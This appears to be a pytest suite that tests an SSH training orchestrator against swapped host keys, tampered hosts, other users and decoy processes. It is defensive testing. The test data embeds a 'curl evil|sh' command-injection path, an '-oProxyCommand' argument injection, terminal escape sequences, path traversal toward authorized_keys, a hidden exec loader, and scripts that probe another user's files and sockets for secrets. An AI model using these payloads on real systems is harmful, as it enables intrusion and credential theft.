"""What docs/security.md promises, shown on real hosts: keys that are swapped, other users, hostile hosts, decoys."""

from __future__ import annotations

import json
import os
import re
import secrets
import shlex
import subprocess
from pathlib import Path

import pytest
from lab.lab import Lab
from lab.waiting import wait_until

from orchestrator.hosts.fleet import Fleet
from orchestrator.hosts.node_program import node_program
from orchestrator.ssh.dialer import ConnectFailure

from .driver import COUNTER, assert_clean, ok, orch, runs, script, start, wait_for_state
from .sshds import SSHD, Client, host, make_key, sshd

CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


# --- a key that is swapped between two connections


@pytest.mark.skipif(not SSHD, reason="no sshd on this machine")
@pytest.mark.parametrize("jump", [False, True])
def test_a_key_swapped_in_mid_project_is_refused_on_reconnect(tmp_path: Path, jump: bool) -> None:
    client = Client(tmp_path / "client")
    with sshd(tmp_path / "one", client.key) as one, sshd(tmp_path / "last", client.key) as last:
        client.trust(one.known_line(), last.known_line())
        dialer = client.dialer(host_keys="accept-new")
        through = host(last, proxy_jump=f"127.0.0.1:{one.port}") if jump else host(one)
        fleet = Fleet(dialer, node_program(), 4, lambda: secrets.token_hex(12))
        os.environ["DDP_ORCH_STATE_DIR"] = str(tmp_path / "state")
        try:
            fleet.session(through)
            one.process.kill()
            one.process.wait(10)
            for child in one.children():
                os.kill(child, 9)
            one.host_key.unlink()
            make_key(one.host_key)
            config = one.directory / "sshd_config"
            again = subprocess.Popen([str(SSHD), "-D", "-f", str(config), "-E", str(one.directory / "log2")])
            try:
                listening = one.directory / "log2"
                wait_until(lambda: listening.exists() and "listening" in listening.read_text(), 10, "sshd listens")
                dialer.close()
                fleet._sessions.clear()
                with pytest.raises(ConnectFailure) as caught:
                    fleet.session(through)
                assert caught.value.code == "ssh-host-key-changed" and "CHANGED" in str(caught.value)
                assert "Accepted" not in listening.read_text()
            finally:
                again.kill()
                again.wait(10)
        finally:
            del os.environ["DDP_ORCH_STATE_DIR"]
            fleet.close()


# --- a host in hostile hands


def tamper(program: Path, module: str, lie: str) -> None:
    """Add code to a module of the node program on a host. Its size stays, as a session replaces what has another."""
    (path,) = program.glob(f"node/**/{module}.py")
    honest, lying = path.with_suffix(".honest"), path.with_suffix(".lying")
    if not honest.exists():
        honest.write_bytes(path.read_bytes())
    lying.write_text(f"{honest.read_text()}\n{lie}\n")
    loader = 'exec(compile(open(__file__[:-3] + ".lying").read(), __file__, "exec"))\n'
    path.write_text(loader.ljust(honest.stat().st_size, "#"))
    assert path.stat().st_size == honest.stat().st_size
    os.utime(path, (0, 0))  # of the same size and second as the byte code, it would not be read


HOSTILE = """
import os as _os

ESCAPE = "\\x1b]52;c;Zm9v\\x07\\x1b[2J\\x9b31m[/bold]"
RUN = {"run_id": "../../../x", "name": "../.ssh" + ESCAPE, "state": "running" + ESCAPE, "attempt": 1, "node": 0,
       "started_at": ESCAPE, "host": ESCAPE, "hosts": [ESCAPE, "-oProxyCommand=touch pwned"], "node_rank": 0,
       "first_rank": 0, "nproc": 1, "ranks": 1, "exit_code": None, "signal": None, "pid": -1, "inventory": ESCAPE,
       "by": ESCAPE, "ports": ["x"], "verdict": {"state": ESCAPE}}
"""
LIES = {
    "a run with escapes in all it says": "listing = lambda _: {'runs': [RUN]}",
    "a run that is no object": "listing = lambda _: {'runs': [1, None, 'x']}",
    "no list": "listing = lambda _: {'runs': ESCAPE}",
    "an answer of 100,000 brackets": "listing = lambda _: {'runs': eval('[' * 80 + ']' * 80)}",
}
COMMANDS = {
    "ps": ("ps", "--all"),
    "logs": ("logs",),
    "kill": ("kill", "--leftovers"),
    "diagnose": ("diagnose",),
    "report": ("report", "mine", "-o", "report.html"),
    "top": ("top",),
    "fetch": ("fetch", "mine"),
}


@pytest.mark.full
def test_a_host_that_lies_fails_alone_and_writes_nothing_to_the_terminal_or_the_disk(lab2: Lab) -> None:
    inventory = lab2.inventory(run={"launcher": "direct"})
    text = "import os, pathlib; pathlib.Path(os.environ['DDP_ORCH_OUTPUT_DIR'], 'x.txt').write_text('x'); print('hi')"
    ok(orch(lab2, "up", inventory, "--name", "mine", "--", script(lab2, text)))
    (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
    shown = ok(orch(lab2, "ps", "-i", inventory, "--all", "--json")).stdout
    home = sorted(lab2.controller_home.rglob("*"))
    for lie, code in LIES.items():
        tamper(program, "runs", f"{HOSTILE}\n{code}")
        for name, argv in COMMANDS.items():
            result = orch(lab2, *argv, "-i", inventory)
            assert result.returncode == (0 if name == "top" else 4), (lie, name, result.stderr)
            assert re.search(r"\bnode-1: .*\bnode program \(", result.stderr), (lie, name, result.stderr)
            assert "Traceback" not in result.stderr and not CONTROL.search(result.stdout + result.stderr), (lie, name)
            if name == "logs":
                assert "node-0:0" in result.stdout
        listed = json.loads(ok(orch(lab2, "ps", "-i", inventory, "--all", "--json"), 4).stdout)
        assert [node["host"] for node in listed[0]["nodes"]] == ["node-0"]
    assert json.loads(shown)[0]["run_id"] == listed[0]["run_id"]
    left = {path.name for path in lab2.controller_home.rglob("*") if path not in home}
    assert left <= {"mine", ".gitignore", "node-0", "x.txt", "report.html", "report.json"}


FULL = """
honest_look = look

def look(*arguments):
    said = honest_look(*arguments)
    path = "/x; curl evil|sh #" + chr(27) + "]52;c;Zm9v" + chr(7) + chr(27) + "[2J" + chr(10) + "error: EVIL"
    said["disks"]["state"].update(path=path, free=7)
    return said
"""


def test_check_shows_no_escape_of_a_host_and_quotes_what_is_to_be_pasted(lab2: Lab) -> None:
    inventory = lab2.inventory(run={"launcher": "direct"})
    ok(orch(lab2, "check", inventory, "--quick"))
    (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
    tamper(program, "probe", FULL)
    for argv in (("check", inventory, "--quick"), ("up", inventory, "-d", "--", script(lab2, "print('hi')"))):
        result = ok(orch(lab2, *argv), 3)
        said = result.stdout + result.stderr
        assert "curl evil" in said and not CONTROL.search(said)
        assert not any(line.startswith("error: EVIL") for line in said.splitlines())
        (fix,) = [line for line in said.splitlines() if "du -xh" in line]
        words = shlex.split(fix[fix.index("ddp-orch exec") :])
        assert any("$(df --output=target '/x; curl evil|sh # error: EVIL' | tail -n 1)" in word for word in words)


MORE_LIES = {
    # answers to `send` and `outputs`; to `record`; to `evidence`; to `sample`
    "outputs": ("fetch", "listing = lambda *_: {'files': [['../../.ssh/authorized_keys', 5, 1]], 'links': 0}"),
    "runs": ("report", "record = lambda *_: {}"),
    "evidence": ("diagnose", "gather = lambda *_: {}"),
    "sample": ("top", "sample = lambda *_: {}"),
}


@pytest.mark.parametrize("module", MORE_LIES)
def test_what_else_a_host_may_lie_about_ends_no_command_with_a_traceback(lab2: Lab, module: str) -> None:
    command, lie = MORE_LIES[module]
    inventory = lab2.inventory(run={"launcher": "direct"})
    ok(orch(lab2, "up", inventory, "--name", "mine", "--", script(lab2, "print('hi')")))
    (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
    tamper(program, module, lie)
    result = orch(lab2, command, "mine", "-i", inventory)
    assert "Traceback" not in result.stderr and result.returncode in (0, 4), (result.returncode, result.stderr)
    assert not (lab2.controller_home / ".ssh/authorized_keys").exists()


FORGED = """
honest_describe = describe

def describe(run_id, folder):
    said = honest_describe(run_id, folder)
    if said is not None:
        said.update(node=%d, name="owned", state="succeeded", verdict={"state": "succeeded"}, exit_code=0)
    return said
"""


@pytest.mark.parametrize("node", [0, pytest.param(1, marks=pytest.mark.full)])
def test_no_host_but_the_head_tells_how_a_run_ended(lab2: Lab, node: int) -> None:
    inventory = lab2.inventory(run={"launcher": "direct"})
    ok(orch(lab2, "up", inventory, "--", script(lab2, "print('hi')")))
    (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
    tamper(program, "runs", FORGED % node)
    failing = script(lab2, "import os, sys; sys.exit(3 if os.environ['RANK'] == '0' else 0)")
    ended = orch(lab2, "up", inventory, "--name", "mine", "--", failing)
    assert ended.returncode == 1 and "node-0: rank 0: exit code 3" in ended.stderr, ended.stderr
    assert orch(lab2, "logs", "-f", "mine", "-i", inventory).returncode == 1
    (run,) = [run for run in runs(lab2, inventory).values() if run["name"] == "mine"]
    assert run["state"] == "failed"
    assert json.loads(ok(orch(lab2, "diagnose", "mine", "--json", "-i", inventory)).stdout)["findings"]
    told = json.loads(ok(orch(lab2, "report", "mine", "--json", "-i", inventory)).stdout)
    assert (told["state"], told["first_failure"]["host"]) == ("failed", "node-0")
    assert "first failure: node-0" in ok(orch(lab2, "top", "mine", "-i", inventory)).stdout


def test_a_host_that_is_in_no_run_ends_none(lab2: Lab) -> None:
    hosts = [{"name": host.name, "address": host.address} for host in lab2.hosts]
    one = lab2.inventory(hosts=hosts[:1], run={"launcher": "direct"})
    run_id = start(lab2, one, "--", script(lab2, COUNTER), "1000", "0.1")
    wait_for_state(lab2, one, run_id, "running")
    both = lab2.inventory(hosts=hosts[::-1], run={"launcher": "direct"})
    ok(orch(lab2, "ps", "-i", both))
    (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
    listing = "import json, sys; sys.path.insert(0, sys.argv[1])\n"
    listing += "from node.serve import runs; print(json.dumps(runs.listing({})))"
    at = f"/home/ann/.local/state/ddp-orch/{program.name}"
    listed = lab2.hosts[0].run([lab2.python, "-c", listing, at], "ann", check=True).stdout
    (honest,) = json.loads(listed)["runs"]
    lie = {**honest, "state": "succeeded", "exit_code": 0}
    tamper(program, "runs", f"listing = lambda _: {{'runs': [{lie!r}]}}")
    for argv in (("ps", "--json"), ("kill", "--leftovers", "--json")):
        result = ok(orch(lab2, *argv, "-i", both))
        assert re.search(rf"\bnode-1: .*\b{run_id}\b", result.stderr)
    assert runs(lab2, one)[run_id]["state"] == "running"
    assert json.loads(result.stdout)["killed"] == []
    ok(orch(lab2, "kill", run_id, "-i", one, "--grace", "0"))
    assert_clean(lab2)


# --- other users of the hosts

ATTACK = """
import json, os, pathlib, socket, sys
found = []
for top in ("/home/ann", "/tmp", "/var/tmp", "/dev/shm", "/run/user"):
    for folder, names, files in os.walk(top):
        paths = [os.path.join(folder, name) for name in files]
        found += [path for path in paths if "ddp-orch" in path and os.lstat(path).st_uid == 2001]
readable = []
for one in pathlib.Path("/proc").glob("[0-9]*"):
    try:
        if one.stat().st_uid == 2001 and (one / "environ").read_bytes():
            readable.append(str(one))
    except OSError:
        pass
print(json.dumps([found, readable]))
"""

# asks every socket of ours that the kernel lists for the secrets and the key of the run
ASK_GUARD = """
import json, socket, sys
names = [line.split()[-1] for line in open("/proc/net/unix") if "ddp-orch" in line or "ddp_orch" in line]
answers = []
for name in sorted({name for name in names if name.startswith("@")}):
    with socket.socket(socket.AF_UNIX) as guard:
        guard.settimeout(10)
        guard.connect("\\0" + name[1:])
        try:
            guard.sendall(json.dumps({"do": "ticket", "run_id": sys.argv[1]}).encode() + b"\\n")
            answers.append(guard.recv(65536).decode())
        except (BrokenPipeError, ConnectionResetError):
            answers.append("")
print(json.dumps(answers))
"""


def test_another_user_reads_nothing_and_disturbs_nothing(lab2: Lab) -> None:
    inventory = lab2.inventory(run={"launcher": "direct", "secrets": ["TOKEN"]})
    run_id = start(lab2, inventory, "--", script(lab2, COUNTER), "600", "0.05", env={"TOKEN": "correct-horse"})
    wait_for_state(lab2, inventory, run_id, "running")
    head = lab2.hosts[0]
    found, readable = json.loads(head.run([lab2.python, "-c", ATTACK], "bob", check=True).stdout)
    assert found == [] and readable == []
    answers = json.loads(head.run([lab2.python, "-c", ASK_GUARD, run_id], "bob", check=True).stdout)
    assert answers == [""]  # the guard's request socket, which closes at once
    of_bob = lab2.inventory(name="bob.yaml", defaults={"user": "bob", "python": lab2.python})
    table = ok(orch(lab2, "ps", "-i", of_bob))
    assert "of yours" in table.stderr and f"{run_id} ann" in " ".join(table.stdout.split())
    assert json.loads(ok(orch(lab2, "ps", "-i", of_bob, "--json")).stdout) == []
    spec = json.loads(next(head.home.glob(f".local/state/ddp-orch/*/runs/{run_id}/spec.json")).read_text())
    listeners = _listeners(head.sh("cat /proc/net/tcp", "root").stdout) - {22}
    assert listeners and listeners <= set(spec["used_ports"])
    noise = (
        "import os, socket, sys\n"
        "for port in map(int, sys.argv[2:]):\n"
        "    for _ in range(50):\n"
        "        try:\n"
        "            s = socket.create_connection((sys.argv[1], port), 2); s.sendall(os.urandom(400)); s.close()\n"
        "        except OSError: pass\n"
    )
    head.run([lab2.python, "-c", noise, head.address, *map(str, listeners)], "bob", check=True)
    assert ok(orch(lab2, "logs", "-f", run_id, "-i", inventory)).stdout.count("count 599") == 2
    assert runs(lab2, inventory)[run_id]["state"] == "succeeded"
    assert_clean(lab2)


def _listeners(table: str) -> set[int]:
    rows = [line.split() for line in table.splitlines()[1:]]
    return {int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A"}


# --- decoys


def test_decoys_beside_a_run_survive_its_end(lab2: Lab) -> None:
    inventory = lab2.inventory(run={"launcher": "direct"})
    waiting = script(lab2, "import time; print('ready', flush=True); time.sleep(600)")
    run_id = start(lab2, inventory, "--", waiting)
    wait_for_state(lab2, inventory, run_id, "running")
    decoys = []
    for one in lab2.hosts:
        (rank,) = [process for process in one.processes() if process.argv[-1:] == ("train.py",)]
        code = next(one.home.glob(f".local/state/ddp-orch/*/runs/{run_id}/code"))
        inside = "/home/ann/" + str(code.relative_to(one.home))
        lookalike = [*rank.argv[:-1], f"{inside}/train.py"]
        for number in range(25):
            mark = {"NOT_DDP_ORCH_RUN_ID": run_id, "X": f"DDP_ORCH_RUN_ID={run_id}"}
            decoys.append(one.popen(lookalike, "ann", env=mark, stdout=subprocess.DEVNULL))
            marked = {"DDP_ORCH_RUN_ID": run_id} if number % 2 else {"DDP_ORCH_RUN_ID": "20200101-000000-dead"}
            decoys.append(one.popen(["sleep", "600"], "bob", env=marked))
    for argv in (("kill", "--grace", "0"), ("kill", "--all"), ("kill", "--leftovers"), ("kill", run_id)):
        orch(lab2, *argv, "-i", inventory)
    assert runs(lab2, inventory)[run_id]["state"] == "killed"
    dead = [process.args for process in decoys if process.poll() is not None]
    for process in decoys:
        process.kill()
        process.wait(10)
    assert dead == [], f"{len(dead)} of {len(decoys)} decoys were killed"
